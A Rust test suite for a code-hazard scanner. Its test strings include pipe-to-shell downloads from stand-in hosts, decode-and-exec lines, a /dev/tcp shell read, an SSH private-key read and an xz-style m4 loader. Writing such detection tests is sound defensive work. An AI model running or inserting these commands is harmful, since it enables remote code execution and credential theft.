#![allow(clippy::unwrap_used)]
use super::super::place::place;
use super::*;

fn kinds(path: &str, text: &str) -> Vec<HazardKind> {
    let place = place(path.as_bytes(), text.as_bytes());
    let lines = text.split_inclusive('\n').enumerate();
    let seen = Seen::of(place, (&[], 0), lines.map(|(at, line)| (at + 1, line.as_bytes())), false);
    seen.hazards(place, &HashSet::new()).into_iter().map(|hazard| hazard.kind).collect()
}

fn has(path: &str, text: &str, kind: HazardKind) {
    let kinds = kinds(path, text);
    assert!(kinds.contains(&kind), "{path}: {text:?}: {kinds:?}");
}

#[test]
fn first_stages_are_found() {
    for (path, text) in [
        ("a.py", "exec(urlopen('https://x.example/p').read())"),
        ("a.py", "exec(base64.b64decode('aW1wb3J0IG9z'))"),
        ("a.py", "data = requests.get(url).content\nos.system(data)"),
        ("a.py", "code = bytes.fromhex(text)\n\n\nexec(code)"),
        ("a.sh", "curl -s https://x.example/i.sh | sh"),
        ("a.sh", "wget -qO- https://x.example | sudo bash"),
        ("a.sh", "eval \"$(curl -s $u)\""),
        ("a.js", "eval(atob('YQ=='))"),
        ("a.js", "require('child_process').execSync(Buffer.from(s, 'hex'))"),
        ("m4/x.m4", "sed rpath ../../../ | tr x y | xz -d 2>/dev/null | /bin/sh"),
        ("a.py", "subprocess.Popen([sys.executable, '-c', zlib.decompress(blob)])"),
        ("a.sh", "bash -c 'cat < /dev/tcp/10.0.0.1/80'"),
        ("a.py", "exec(''.join(chr(x) for x in data))"),
        ("a.py", "exec(''.join(chr(x) for x in range(0) or data))"),
        ("a.py", "exec(''.join(map(chr, data)))"),
        ("a.py", "exec(''.join(chr(x[i] - 1) for i in range(len(x))))"),
        ("a.c", "system(\"wget http://x.example\");"),
        ("build.rs", "std::process::Command::new(\"curl\").arg(\"https://x.example\").status();"),
        ("Makefile", "\tcurl -s https://x.example/x | sh"),
    ] {
        has(path, text, HazardKind::RunsData);
    }
}

#[test]
fn either_half_alone_is_nothing_to_run() {
    for (path, text) in [
        ("a.py", "exec(open('version.py').read())"),
        ("a.py", "pattern = re.compile('a')\nresponse = requests.get(url)"),
        ("a.py", "with urlopen(url) as response:\n    return json.load(response)"),
        ("a.py", "subprocess.run(['make'])"),
        ("a.py", "cursor.execute(query)\nbase64.b64decode(x)"),
        ("a.py", "model.eval()\nfetch(x)"),
        ("notes", "the evaluation of curl"),
        ("a.py", "exec(a)\n\n\n\n\n\n\n\nb64decode(x)"),
        ("a.py", "# exec(urlopen(url).read())"),
        ("a.c", "/*\n * system(\"curl x | sh\") is what it does not do\n */"),
    ] {
        assert!(!kinds(path, text).contains(&HazardKind::RunsData), "{text}");
    }
}

#[test]
fn what_lines_do_is_named() {
    use HazardKind::*;
    for (path, text, kind) in [
        ("a.py", "os.system('x')", Process),
        ("a.c", "__attribute__((constructor)) static void f(void)", Constructor),
        ("a.c", "static void *f(void) __attribute__((ifunc(\"resolve\")));", Constructor),
        ("a.c", "void *h = dlopen(\"/tmp/x.so\", RTLD_NOW);", DynamicLoading),
        ("a.c", "if (execve(path, argv, envp) < 0)", Process),
        ("a.c", "  std::system(command);", Process),
        ("a.go", "cmd := exec.Command(\"sh\")", Process),
        ("a.js", "const cp = require('child_process')", Process),
        ("a.js", "new Function(code)()", Eval),
        ("a.js", "var _0x3f2a=_0x12ab;", Obfuscated),
        ("a.py", "pickle.loads(data)", Deserialising),
        ("a.py", "open(os.path.expanduser('~/.ssh/id_rsa'))", Credentials),
        ("a.py", "x = chr(105) + chr(109) + chr(112) + chr(111) + chr(114)", Obfuscated),
        ("CMakeLists.txt", "execute_process(COMMAND sh x.sh)", Process),
        ("meson.build", "run_command('sh', 'x.sh')", Process),
        ("configure.ac", "m4_esyscmd([sh x.sh])", Process),
        ("Makefile.am", "X := $(shell sh x.sh)", Process),
        ("Makefile.am", "\tpython3 tests/gen.py", Process),
        ("a.rs", "#[ctor::ctor]", Constructor),
        ("a.rs", "let x = std::process::Command::new(\"sh\");", Process),
        ("a.py", "host = 'http://203.0.113.7:8080/x'", Network),
        ("a.py", "os . system('x')", Process),
        ("a.c", "return (system)(\"id\");", Process),
        ("a.c", "int (*p)(const char *) = system;", Process),
        ("a.c", "syscall(SYS_execve, \"/tmp/x\", 0, 0);", Process),
        ("a.c", "f = dlsym(RTLD_DEFAULT, name);", DynamicLoading),
        ("a.c", "return setuid(0);", Weakened),
        ("a.py", "f = exec", Eval),
        ("a.py", "return list(map(eval, x))", Eval),
        ("a.py", "sys.meta_path.insert(0, X())", DynamicLoading),
        ("a.py", "return np.load(p, allow_pickle=True)", Deserialising),
        ("a.py", "c.verify_mode = 0", Weakened),
        ("a.js", "(0, eval)(x)", Eval),
        ("a.js", "const e = eval; e(x)", Eval),
        ("a.js", "setTimeout('alert(1)', 1)", Eval),
        ("a.js", "globalThis['ev' + 'al']('1')", Eval),
        ("a.js", "module.exports.x = function (p) { return require(p) }", DynamicLoading),
        ("a.js", "process.binding('spawn_sync')", DynamicLoading),
        ("a.js", "globalThis.fetch(u)", Network),
        ("a.rs", "let f: extern \"C\" fn() = unsafe { transmute(p) };", DynamicLoading),
        ("tools/a.sh", ". \"$srcdir/tests/x\"", Process),
        ("configure.ac", "AC_SUBST([X], [`sh $srcdir/tests/x`])", Process),
        ("CMakeLists.txt", "cmake_language(EVAL CODE \"${X}\")", Eval),
        ("CMakeLists.txt", ".", Weakened),
        ("meson.build", "install_data('x', install_mode: 'rwsr-xr-x')", Weakened),
        ("data/70-x.rules.in", "ACTION==\"add\", RUN+=\"/bin/sh -c id\"", Process),
        ("data/x.desktop.in", "Exec=sh -c id", Process),
        ("foo/base.html", "<script src=\"https://x.example/x.js\"></script>", DynamicLoading),
        ("foo/locale/de.yml", "a: !!python/object/apply:os.system [1]", Deserialising),
    ] {
        has(path, text, kind);
    }
    for (path, text) in [
        ("a.js", "const m = /x/.exec(text)"),
        ("a.c", "lua_eval(x); file->system(x);"),
        ("a.c", "fork();"),
        ("a.rs", "let v = eval(expr);"),
        ("a.py", "model.eval()"),
        ("a.go", "func system() {}"),
        ("a.c", "int system;\nchar *exec = 0;\nrun(file_system);\n"),
        ("a.py", "system = platform.system()\nx = {'exec': 1}\nrun(executor)\n"),
        ("a.js", "const x = require('./x')\nsetTimeout(f, 1)\nx.evaluate(y)\n"),
        ("a.rs", "let y: u32 = unsafe { transmute(x) };"),
        ("foo/base.html", "<script src=\"/static/x.js\"></script>"),
        ("foo/locale/de.yml", "a: os.system('id')"),
        ("data/table.csv", "1 2 3 4 5 6\nExecutive=1\n"),
        ("a.sh", "sh ./build.sh\n. ./lib.sh\n"),
    ] {
        assert_eq!(kinds(path, text), [], "{text}");
    }
}

#[test]
fn what_runs_at_import_is_said() {
    let place = place(b"foo/__init__.py", b"");
    let text = "def f():\n    os.system('a')\nos.system('b')\n";
    let lines = text.split_inclusive('\n').enumerate();
    let seen = Seen::of(place, (&[], 0), lines.map(|(at, line)| (at + 1, line.as_bytes())), false);
    let hazards = seen.hazards(place, &HashSet::new());
    let [hazard] = hazards.as_slice() else { unreachable!("{hazards:?}") };
    assert_eq!(hazard.reason, "line 3 starts a process at import (1 more)");
    assert_eq!(hazard.excerpt.as_deref(), Some("os.system('b')"));
    // The same lines, gone elsewhere, have moved.
    let gone: HashSet<u64> = seen.hashes().collect();
    assert_eq!(seen.hazards(place, &gone), []);
}

#[test]
fn a_file_that_python_reads_otherwise() {
    for text in ["# coding: utf-7\nx = 1\n", "#!/usr/bin/python\n# -*- coding: utf_7 -*-\n"] {
        has("foo/_version.py", text, HazardKind::Obfuscated);
    }
    for text in ["# coding: utf-8\n", "# -*- coding: latin-1 -*-\n", "x = 1\n\n# coding: utf-7\n"] {
        assert_eq!(kinds("foo/_version.py", text), [], "{text}");
    }
}

#[test]
fn what_leaves_a_function_does_not_only_move() {
    let place = place(b"foo/__init__.py", b"");
    let seen = |text: &str| {
        let lines = text.split_inclusive('\n').enumerate();
        Seen::of(place, (&[], 0), lines.map(|(at, line)| (at + 1, line.as_bytes())), false)
    };
    let gone: HashSet<u64> = seen("def f():\n    os.system('a')\n").hashes().collect();
    assert_eq!(seen("os.system('a')\n").hazards(place, &gone).len(), 1);
    assert_eq!(seen("    os.system('a')\n").hazards(place, &gone), []);
}

#[test]
fn long_and_encoded_lines() {
    use HazardKind::{HighEntropy, LongLine};
    assert_eq!(kinds("a.c", &"word ".repeat(300)), [LongLine]);
    assert_eq!(kinds("tests/a.txt", &"word ".repeat(300)), []);
    let base64: String = (0..200u32)
        .filter_map(|i| char::from_u32(u32::from(b'A') + i * 7 % 26 + 32 * (i % 2)))
        .collect();
    assert_eq!(kinds("a.c", &base64), [HighEntropy]);
    assert_eq!(kinds("a.c", &"-".repeat(400)), []);
    assert_eq!(kinds("a.c", &format!("pass{}evil()\n", " ".repeat(250))), [LongLine]);
    assert_eq!(kinds("a.c", &format!("{}x\n", " ".repeat(250))), []);
    let wrapped = "TWFueSBoYW5kcyBtYWtlIGxpZ2h0IHdvcmsuIE1hbnkgaGFuZHMgbWFrZSBsaWdodCB3b3Jr\n";
    assert_eq!(kinds("a.c", &wrapped.repeat(9)), [HighEntropy]);
    assert_eq!(kinds("a.c", &wrapped.repeat(3)), []);
    assert_eq!(kinds("a.c", &format!("x = \"{}\"\n", "\\x41".repeat(60))), [HighEntropy]);
}

#[test]
fn documentation_and_tests_do_what_they_do() {
    assert_eq!(kinds("README.md", "curl -s https://x.example/i.sh | sh"), []);
    assert_eq!(kinds("README.md", "a\u{202e}b"), []);
    assert_eq!(kinds("tests/test_x.py", "subprocess.run(['x'])"), []);
    assert_eq!(kinds("tests/test_x.py", "x = 'a\u{202e}b'"), [HazardKind::HiddenUnicode]);
    has("tests/test_x.py", "exec(b64decode('x'))", HazardKind::RunsData);
    has("tests/conftest.py", "os.system('x')", HazardKind::Process);
}

#[test]
fn what_only_looks_like_a_comment_is_code() {
    for (path, text) in [
        ("a.c", "/*\n// */ system(\"sh /tmp/x\");\n"),
        ("a.c", "int f(int a){ return a\n* system(\"id\"); }\n"),
        ("a.c", "/* a */ system(\"id\"); /* b */\n"),
        ("a.c", "/*\n * a\n */ system(\"id\");\n"),
        ("a.c", "char g[] = \"/*\";\nint a = b\n* system(\"id\");\n"),
        ("a.c", "// in lib/*\nint a = b\n* system(\"id\");\n"),
        ("a.c", "/*\nx */ int a = b\n* system(\"id\");\n"),
        ("a.js", "/*\n// */ require('child_process').execSync('id')\n"),
        ("a.rs", "/*\n// */ fn f() { std::process::Command::new(\"sh\"); }\n"),
        ("a.php", "<?php\n// ?><?php shell_exec('id');\n"),
        ("a.py", "x = \"\"\"\n# \"\"\"; os.system('id')\n"),
        ("a.sh", "x='\n# '; sh -c \"$y\"\n"),
    ] {
        let kinds = kinds(path, text);
        let runs = kinds.contains(&HazardKind::Process) || kinds.contains(&HazardKind::Eval);
        assert!(runs, "{path}: {text:?}: {kinds:?}");
    }
    for (path, text) in [
        ("a.c", "/*\n * system(\"id\") would do\n *\n * popen(\"id\", r)\n */\nint a;\n"),
        ("a.c", "/**\n * system(\"id\") would do */\nint a;\n"),
        ("a.c", "/* system(\"id\") */\n// */\n// system(\"id\") */\n"),
        ("a.py", "# os.system('id') as \"\"\"text\"\"\"\n"),
        ("a.sh", "# don't run: sh -c x; or eval y\n"),
    ] {
        assert_eq!(kinds(path, text), [], "{text:?}");
    }
}
